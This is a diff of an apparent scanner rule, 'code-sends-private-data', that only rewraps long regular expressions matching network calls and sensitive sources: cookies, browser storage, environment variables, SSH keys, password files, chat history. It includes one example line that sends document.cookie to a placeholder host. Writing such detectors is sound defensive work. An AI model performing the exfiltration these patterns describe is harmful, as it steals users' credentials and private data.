@@ -16,7 +16,8 @@ _RULE = channel_rule(
     "code-sends-private-data",
     "CODE",
     "Code that sends private data",
-    "fetch, XMLHttpRequest, sendBeacon, an image source, requests, urllib or PHP with cookies, storage, environment or files",
+    "fetch, XMLHttpRequest, sendBeacon, an image source, requests, urllib or PHP with "
+    "cookies, storage, environment or files",
     source="https://owasp.org/www-community/attacks/xss/",
     examples=("fetch('https://example.org?c='+document.cookie)",),
     near_misses=(
@@ -25,20 +26,33 @@ _RULE = channel_rule(
     ),
 )
 _SINK = (
-    r"fetch\s?\(|navigator\.sendBeacon\s?\(|\.open\s?\(\s?[\"'](?:GET|POST|PUT)|new\s+Image\b|\.src\s?=|new\s+WebSocket\s?\(|axios(?:\.\w+)?\s?\(|\$\.(?:get|post|ajax|getJSON)\s?\(|"
-    r"(?:window\.|document\.)?location(?:\.href)?\s?=|location\.(?:replace|assign)\s?\(|importScripts\s?\(|"
-    r"(?:requests|httpx|session|client|aiohttp|urllib3?)\.(?:get|post|put|patch|request|urlopen|request\.urlopen)\s?\(|urlopen\s?\(|"
-    r"http\.(?:Get|Post|PostForm|request|get|post)\s?\(|https\.(?:get|request)\s?\(|file_get_contents\s?\(\s?[\"']https?|curl_setopt\s?\(|Net::HTTP|HttpClient|Invoke-RestMethod|"
+    r"fetch\s?\(|navigator\.sendBeacon\s?\(|\.open\s?\(\s?[\"'](?:GET|POST|PUT)|"
+    r"new\s+Image\b|\.src\s?=|new\s+WebSocket\s?\(|axios(?:\.\w+)?\s?\(|\$\.(?:get|post|"
+    r"ajax|getJSON)\s?\(|"
+    r"(?:window\.|document\.)?location(?:\.href)?\s?=|location\.(?:replace|assign)\s?\(|"
+    r"importScripts\s?\(|"
+    r"(?:requests|httpx|session|client|aiohttp|urllib3?)\.(?:get|post|put|patch|request|"
+    r"urlopen|request\.urlopen)\s?\(|urlopen\s?\(|"
+    r"http\.(?:Get|Post|PostForm|request|get|post)\s?\(|https\.(?:get|request)\s?\(|"
+    r"file_get_contents\s?\(\s?[\"']https?|curl_setopt\s?\(|Net::HTTP|HttpClient|"
+    r"Invoke-RestMethod|"
     r"smtplib|sendmail\s?\(|\.send\s?\(|\.write\s?\("
 )
 _SOURCE = re.compile(
-    r"document\.cookie|localStorage|sessionStorage|indexedDB|navigator\.clipboard|document\.(?:body|documentElement)\.(?:inner|outer)(?:HTML|Text)|"
-    r"document\.(?:forms|querySelector\([^)]*(?:pass|token|csrf)[^)]*\))|password\.value|chrome\.cookies|"
-    r"dict\(os\.environ\)|os\.environ(?:\.copy\(\)|\.items\(\))?\s*[),}]|os\.environ\s*$|json\.dumps\((?:dict\()?os\.environ\)?|"
+    r"document\.cookie|localStorage|sessionStorage|indexedDB|navigator\.clipboard|"
+    r"document\.(?:body|documentElement)\.(?:inner|outer)(?:HTML|Text)|"
+    r"document\.(?:forms|querySelector\([^)]*(?:pass|token|csrf)[^)]*\))|password\.value|"
+    r"chrome\.cookies|"
+    r"dict\(os\.environ\)|os\.environ(?:\.copy\(\)|\.items\(\))?\s*[),}]|os\.environ\s*$|"
+    r"json\.dumps\((?:dict\()?os\.environ\)?|"
     r"JSON\.stringify\((?:process\.env|localStorage|sessionStorage|window)\)|process\.env\s*[),}]|"
-    r"open\(\s*(?:os\.path\.expanduser\()?[rb]?[\"'](?:/etc/|~|[^\"']*(?:\.ssh|\.aws|\.env|passwd|shadow|id_rsa|credential|secret|\.pem|\.netrc))|"
-    r"read(?:File(?:Sync)?|_text|_bytes)?\([^)]*(?:\.ssh|\.aws|\.env\b|passwd|shadow|id_rsa|credential|secret|\.pem)|(?:Path\(|expanduser\()[^)]*(?:\.ssh|\.aws|\.env\b|id_rsa|credential)|"
-    r"\$_(?:COOKIE|SESSION|SERVER|ENV)\b(?!\s*\[)|getenv\(\)|System\.getenv\(\)|getpass\.getpass\(|keyring\.get_password|pyperclip\.paste|ImageGrab|pynput|"
+    r"open\(\s*(?:os\.path\.expanduser\()?[rb]?[\"'](?:/etc/|~|[^\"']*(?:\.ssh|\.aws|\.env|"
+    r"passwd|shadow|id_rsa|credential|secret|\.pem|\.netrc))|"
+    r"read(?:File(?:Sync)?|_text|_bytes)?\([^)]*(?:\.ssh|\.aws|\.env\b|passwd|shadow|id_rsa|"
+    r"credential|secret|\.pem)|(?:Path\(|expanduser\()[^)]*(?:\.ssh|\.aws|\.env\b|id_rsa|"
+    r"credential)|"
+    r"\$_(?:COOKIE|SESSION|SERVER|ENV)\b(?!\s*\[)|getenv\(\)|System\.getenv\(\)|"
+    r"getpass\.getpass\(|keyring\.get_password|pyperclip\.paste|ImageGrab|pynput|"
     r"(?i:conversation_history|chat_history|system_prompt|user_secrets?|messages\[)"
 )
 _OWN_ADDRESS = re.compile(r"^\s*[\"'`](?:/(?!/)|\./|\.\./|#)")
